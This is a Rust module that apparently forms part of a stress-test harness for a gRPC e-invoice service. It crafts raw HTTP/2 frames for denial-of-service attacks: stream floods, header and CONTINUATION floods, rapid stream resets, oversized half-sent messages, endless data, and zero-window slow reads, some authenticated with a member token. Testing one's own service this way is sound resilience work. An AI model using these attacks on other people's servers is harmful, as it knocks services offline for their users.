//! Attacks on the gRPC door: what a connection of HTTP/2 (RFC 9113) sends when nobody there means a call.

use super::attack::{Attack, DRIP, Ears, RUSH};

/// What a connection begins with, before its settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;

/// Flags of frames.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The largest frame that a peer must take.
const FRAME_BYTES: usize = 16 * 1024;

/// The calls that a connection begins: as many as a node takes at once when nothing else is configured.
const CALLS: u32 = 256;

/// The calls that are begun and given up at once.
const GIVEN_UP: u32 = 2_000;

const BATCH_VERIFY: &str = "/einvoice.v1.ReimbursementService/BatchVerify";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/// A frame of a stream; 0 is the connection.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length, [kind, flags].as_slice(), &stream.to_be_bytes(), payload].concat()
}

/// Header fields as literals without an index (RFC 7541 §6.2.2).
fn fields(fields: &[(&str, &str)]) -> Vec<u8> {
    let field = |(name, value): &(&str, &str)| {
        [&[0], &*length(name.len()), name.as_bytes(), &*length(value.len()), value.as_bytes()].concat()
    };
    fields.iter().flat_map(field).collect()
}

/// A length with a prefix of seven bits (RFC 7541 §5.1).
fn length(bytes: usize) -> Vec<u8> {
    const PREFIX_MAX: usize = 127;
    let Some(mut rest) = bytes.checked_sub(PREFIX_MAX) else { return vec![u8::try_from(bytes).unwrap_or(0)] };
    let mut length = vec![127];
    while rest >= 128 {
        length.push(u8::try_from(rest % 128).unwrap_or(0) | 128);
        rest /= 128;
    }
    length.push(u8::try_from(rest).unwrap_or(0));
    length
}

/// A message as a call carries it.
fn framed(message: &[u8]) -> Vec<u8> {
    [&[0], u32::try_from(message.len()).unwrap_or(0).to_be_bytes().as_slice(), message].concat()
}

/// The head of a call.
fn head(path: &str) -> Vec<u8> {
    fields(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ])
}

/// The begin of a connection.
fn begin(settings: &[u8]) -> Vec<u8> {
    [PREFACE.to_vec(), frame(SETTINGS, 0, 0, settings)].concat()
}

/// A connection that has begun so many calls, each with some frames.
fn calls(settings: &[u8], count: u32, call: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    // The streams of who calls have odd numbers.
    begin(settings).into_iter().chain((0..count).flat_map(|number| call(2 * number + 1))).collect()
}

impl Attack {
    /// Those on the gRPC door: of strangers, and of whoever has this token of a member.
    pub(super) fn all_grpc(token: &str) -> Vec<Self> {
        // SETTINGS_INITIAL_WINDOW_SIZE is 0, and as large as it may be.
        let (no_window, wide) = ([0, 4, 0, 0, 0, 0], [0, 4, 0x7f, 0xff, 0xff, 0xff]);
        vec![
            Self::half_open(),
            Self::open_calls(),
            Self::metadata(),
            Self::metadata_without_end(),
            Self::given_up(),
            Self::half_sent_batches(),
            Self::endless_batches(),
            Self::unread_answers(&no_window),
            Self { ears: Ears::Deaf, name: "grpc deaf", ..Self::unread_answers(&wide) },
            Self::unread_batches(token, &no_window),
            Self { ears: Ears::Deaf, name: "grpc deaf member", ..Self::unread_batches(token, &wide) },
        ]
    }

    fn h2(name: &'static str, first: Vec<u8>) -> Self {
        Self { name, first, again: Vec::new(), times_max: 0, round: DRIP, ears: Ears::Drop }
    }

    /// Speaks HTTP/2 and says nothing more; answers no ping.
    fn half_open() -> Self {
        Self::h2("grpc half-open", begin(&[]))
    }

    /// Begins as many calls as it may, and none of their messages.
    fn open_calls() -> Self {
        Self::h2(
            "grpc open calls",
            calls(&[], CALLS, |stream| frame(HEADERS, END_HEADERS, stream, &head(BATCH_VERIFY))),
        )
    }

    /// The same with as much metadata in each as a frame holds.
    fn metadata() -> Self {
        let value = "x".repeat(120);
        let mut block = head(BATCH_VERIFY);
        while block.len() + 130 < FRAME_BYTES {
            block.extend(fields(&[("flood", &value)]));
        }
        Self::h2("grpc metadata", calls(&[], CALLS, |stream| frame(HEADERS, END_HEADERS, stream, &block)))
    }

    /// Metadata without end.
    fn metadata_without_end() -> Self {
        let more = fields(&[("flood", &"x".repeat(120))]).repeat(100);
        let first = [begin(&[]), frame(HEADERS, 0, 1, &head(BATCH_VERIFY))].concat();
        let again = frame(CONTINUATION, 0, 1, &more);
        Self { again, times_max: u32::MAX, round: RUSH, ..Self::h2("grpc endless heads", first) }
    }

    /// Begins calls and gives them up at once, thousands of them.
    fn given_up() -> Self {
        let call = |stream| {
            let given_up = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            [frame(HEADERS, END_HEADERS, stream, &head(BATCH_VERIFY)), given_up].concat()
        };
        Self { round: RUSH, ..Self::h2("grpc given up", calls(&[], GIVEN_UP, call)) }
    }

    /// Announces the largest batch in each of many calls, and sends what it may send ahead.
    fn half_sent_batches() -> Self {
        let announced = [&[0], 4_000_000_u32.to_be_bytes().as_slice(), &[b' '; 3_000]].concat();
        let call = |stream| {
            [frame(HEADERS, END_HEADERS, stream, &head(BATCH_VERIFY)), frame(DATA, 0, stream, &announced)].concat()
        };
        Self::h2("grpc half-sent", calls(&[], CALLS, call))
    }

    /// A batch without end, whatever the node lets it send.
    fn endless_batches() -> Self {
        let first = [begin(&[]), frame(HEADERS, END_HEADERS, 1, &head(BATCH_VERIFY))].concat();
        let again = frame(DATA, 0, 1, &[b' '; FRAME_BYTES]);
        Self { again, times_max: u32::MAX, round: RUSH, ..Self::h2("grpc endless", first) }
    }

    /// Asks for the largest answer that needs no login, again and again in each of many calls, and takes nothing of it.
    fn unread_answers(settings: &[u8]) -> Self {
        let symbol = b"einvoice.v1.LedgerService";
        // `file_containing_symbol` of a request of reflection.
        let question = framed(&[[0x22, u8::try_from(symbol.len()).unwrap_or(0)].as_slice(), symbol].concat());
        let asked = question.repeat(100);
        let call = |stream| {
            [frame(HEADERS, END_HEADERS, stream, &head(REFLECTION)), frame(DATA, END_STREAM, stream, &asked)].concat()
        };
        Self::h2("grpc unread", calls(settings, CALLS, call))
    }

    /// The same as a member: asks for the answers of large batches, and takes nothing of them.
    fn unread_batches(token: &str, settings: &[u8]) -> Self {
        let bearer = format!("Bearer {token}");
        let head = [head(BATCH_VERIFY), fields(&[("authorization", &bearer)])].concat();
        // A request of `qr`, a text that is none.
        let asked = framed(&[0x0a, 3, 0x0a, 1, b'x'].repeat(1_000));
        let call =
            |stream| [frame(HEADERS, END_HEADERS, stream, &head), frame(DATA, END_STREAM, stream, &asked)].concat();
        Self::h2("grpc unread member", calls(settings, CALLS, call))
    }
}
